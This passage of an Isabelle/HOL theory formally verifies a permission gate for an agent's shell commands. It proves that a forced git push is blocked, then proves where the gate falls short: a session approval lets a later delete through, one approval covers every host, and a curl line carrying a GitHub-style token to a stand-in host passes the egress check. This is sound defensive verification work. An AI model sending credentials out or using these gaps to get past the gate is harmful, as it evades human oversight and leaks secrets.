    r: "seam_gate recommended_seam never_stopped 0 (''git'' # forced_by_refspec) plain_world = Some (r, w')" by blast
  have argv: "verb_argv git_table forced_by_refspec = ''push'' # [''origin'', ''+main'']"
    and over: "list_ex (\<lambda>arg. starts_with ''+'' arg \<or> starts_with '':'' arg \<and> length arg > 1) [''origin'', ''+main'']"
    by code_simp+
  have "vb_class (refine_verb git_table (verb_argv git_table forced_by_refspec)
      (class_of git_table (verb_argv git_table forced_by_refspec))) = TC_DESTRUCTIVE"
    unfolding argv using refined_push over by blast
  moreover have "\<not> includes_text ''<<'' (quote_shell_words (''git'' # forced_by_refspec))" by code_simp
  moreover have "substitutions_in (quote_shell_words (''git'' # forced_by_refspec)) = []" by code_simp
  moreover have "git_alias_runs (''git'' # forced_by_refspec) = None" by code_simp
  moreover have "shell_line_of (''git'' # forced_by_refspec) = quote_shell_words (''git'' # forced_by_refspec)" by code_simp
  moreover have "ho_gate (se_authorizer recommended_seam) = Some ?gate" by (simp add: recommended_seam_def)
  moreover have "keeps_denials ?gate" by (simp add: keeps_denials_def new_local_gate_def)
  moreover have "\<not> fst (never_stopped i)" for i by (simp add: never_stopped_def)
  moreover have "lg_engine ?gate = new_engine sample_version (policies_from recommended_answers @ [allow_git]) (Some ALLOW)"
    by (simp add: new_local_gate_def open_options_def)
  moreover have "set (policies_from recommended_answers) \<subseteq> set (policies_from recommended_answers @ [allow_git])" by auto
  ultimately have "so_run r = None" using destructive_git_line_never_runs [of forced_by_refspec] r by blast
  with r show ?thesis by blast
qed

section \<open>Where the seam departs from what it says\<close>

text \<open>
  Of the questions a line raises the first is the one whose action and class the request names, with the
  whole line beside it.
\<close>

lemma later_questions_are_not_put:
  assumes "rulings_of seam asks line = pre @ a # post" and "list_all (\<lambda>r. hv_effect (sg_verdict r) = ALLOW) pre"
    and "hv_effect (sg_verdict a) = ASK" and "list_all (\<lambda>r. hv_effect (sg_verdict r) \<noteq> DENY) post"
  shows "seam_rule seam asks line = a" "hr_operation (seam_hold_request seam line (seam_rule seam asks line)) = sg_action a"
proof -
  have low: "severity e \<le> 1" if "e \<noteq> DENY" for e using that by (cases e) simp_all
  then have post: "list_all (\<lambda>r. severity_of r \<le> severity_of a) post"
    using assms(3,4) by (simp add: list_all_iff)
  show "seam_rule seam asks line = a"
  proof (cases pre)
    case Nil
    have "foldl worse a post = a" using post by (induction post) (simp_all add: worse_def)
    with Nil assms(1) show ?thesis by (simp add: seam_rule_def)
  next
    case (Cons b pre')
    with assms(2,3) have "list_all (\<lambda>r. severity_of r < severity_of a) (b # pre')" by (auto simp: list_all_iff)
    from first_worst [OF this post] Cons assms(1) show ?thesis by (simp add: seam_rule_def)
  qed
  then show "hr_operation (seam_hold_request seam line (seam_rule seam asks line)) = sg_action a"
    by (simp add: seam_hold_request_def)
qed

text \<open>
  A yes for the session to that first action answers the line by itself from then on, whatever is asked
  about behind it: its class is the only one looked at, so a delete behind it is let through with it.
\<close>

lemma session_yes_covers_what_is_behind_it:
  assumes "rulings_of seam asks line = pre @ a # post" and "list_all (\<lambda>r. hv_effect (sg_verdict r) = ALLOW) pre"
    and "hv_effect (sg_verdict a) = ASK" and "list_all (\<lambda>r. hv_effect (sg_verdict r) \<noteq> DENY) post"
    and "sg_class a \<noteq> TC_DESTRUCTIVE" and "grants_by_name x" and "gs_operation x = sg_action a"
    and "gs_session x = or_else (se_session seam) SEAM_SESSION"
  shows "memory_covers (memory_grant grants x) (hold_grant_subject (seam_hold_request seam line (seam_rule seam asks line)))"
  using later_questions_are_not_put(1) [OF assms(1-4)] assms(5-8)
  by (simp add: memory_covers_def memory_grant_def memory_record_def hold_grant_subject_def seam_hold_request_def
      grants_by_name_def covered_by_def with_grant_def)

text \<open>
  The request names no key of its own for the yes, so a yes for the session to one host, or to one place,
  is one to every host and every place; the key the answers in a chat are kept under tells them apart.
\<close>

lemma session_yes_covers_every_target:
  assumes "sg_action a = sg_action b" and "sg_class a \<noteq> TC_DESTRUCTIVE" and "sg_class b \<noteq> TC_DESTRUCTIVE"
  shows "memory_covers (memory_grant grants (hold_grant_subject (seam_hold_request seam line a)))
    (hold_grant_subject (seam_hold_request seam other_line b))"
  using assms
  by (simp add: memory_covers_def memory_grant_def memory_record_def hold_grant_subject_def seam_hold_request_def
      grants_by_name_def covered_by_def with_grant_def)

lemma chat_keys_tell_hosts_apart:
  "grant_key_for place HTTP_REQUEST (Some ''a.example'') \<noteq> grant_key_for place HTTP_REQUEST (Some ''b.example'')"
  by (simp add: grant_key_for_def starts_with_def)

text \<open>A credential in a header is in no request a curl makes of the authorizer.\<close>

definition networked_seam :: shell_seam where
  "networked_seam = plain_seam\<lparr>se_io := no_io\<lparr>io_url_host := (\<lambda>u. Some ''x.example''), io_url_hostname := (\<lambda>u. Some ''x.example'')\<rparr>\<rparr>"

definition curl_with_a_token :: string where
  "curl_with_a_token = ''curl -H A:ghp_abcdefghijklmnopqrst https://x.example/a''"

lemma curl_asks:
  "map (\<lambda>(r, t). (ra_action r, t, ra_method r)) (asked_of networked_seam curl_with_a_token) =
     [(HTTP_REQUEST, ''x.example'', Some ''GET'')]"
  by code_simp

lemma host_is_clean: "inspect_egress [(''command'', ''x.example''), (HTTP_METHOD_ARGUMENT, ''GET'')] = []"
  by code_simp

lemma token_is_seen: "credential_shape ''A:ghp_abcdefghijklmnopqrst'' = Some ''github token''"
  by code_simp

lemma curl_header_is_not_inspected:
  assumes "(r, t) \<in> set (asked_of networked_seam curl_with_a_token)"
  shows "ra_action r = HTTP_REQUEST \<and> egress_verdict (seam_request networked_seam (ra_action r) t (Some r)) = None"
proof -
  from assms have "(ra_action r, t, ra_method r) \<in> set (map (\<lambda>(r, t). (ra_action r, t, ra_method r)) (asked_of networked_seam curl_with_a_token))"
    by force
  then have "ra_action r = HTTP_REQUEST" "t = ''x.example''" "ra_method r = Some ''GET''"
    unfolding curl_asks by simp_all
  then show ?thesis using host_is_clean
    by (simp add: egress_verdict_def EGRESS_ACTIONS_def seam_request_def bare_request_def)
qed

text \<open>
  A line that is held for its second path keeps the lease it took for its first, though nothing of it ran.
\<close>

lemma held_line_keeps_its_leases:
  "(case claim_all plain_seam (two_agents ''other'') [] [(''b'', ''write'')] plain_world of
      Some (None, w) \<Rightarrow>
        (case claim_all plain_seam (two_agents ''agent'') [] [(''a'', ''write''), (''b'', ''write'')] w of
           Some (Some message, w') \<Rightarrow>
             map (\<lambda>l. (ls_path l, lh_agent (ls_holder l), ls_released_at l)) (dir_all (lw_dir (sw_leases w'))) =
               [(''b'', ''other'', None), (''a'', ''agent'', None)]
         | _ \<Rightarrow> False)
    | _ \<Rightarrow> False)"
  by code_simp

end
